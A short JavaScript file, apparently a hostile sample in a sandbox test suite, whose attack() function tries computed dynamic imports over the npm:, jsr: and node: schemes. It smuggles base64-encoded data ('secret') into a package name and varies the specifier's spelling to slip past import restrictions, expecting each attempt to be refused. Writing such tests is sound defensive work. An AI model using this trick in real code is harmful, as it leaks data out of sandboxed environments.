// hostile 4: a computed import of a package, with data in its name
// ends: nothing

export async function attack() {
  const loot = [];
  for (const scheme of ["npm", "jsr", "node"]) {
    const name = ["fs", "left-pad", "@std/path", "x-c2VjcmV0"][scheme.length % 4];
    for (const text of [`${scheme}:${name}`, `${scheme}:/${name}`, ` ${scheme}:${name}`]) {
      try {
        loot.push(Object.keys(await import(text)));
      } catch { /* refused */ }
    }
  }
  return loot;
}
